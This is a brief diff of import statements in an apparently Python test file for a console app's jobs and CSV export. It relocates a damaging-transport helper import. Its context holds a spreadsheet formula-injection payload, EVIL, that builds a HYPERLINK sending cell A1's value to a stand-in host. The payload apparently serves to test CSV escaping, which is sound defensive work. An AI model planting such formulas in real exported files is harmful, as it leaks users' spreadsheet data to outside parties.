@@ -19,8 +19,8 @@ from console.connections import clients
 from console.jobs.models import Job, Row, Secret
 from console.ui.csv import FORMULA
 from tests.console_process import CHECKOUT
+from tests.damage import DamagingTransport, change_values
 from tests.populated import PopulatedTeam, list_addresses
-from tests.test_malformed_responses import DamagingTransport, change_values
 
 SignIn = Callable[[str], Client]
 EVIL = '=HYPERLINK("evil.test?"&A1)'
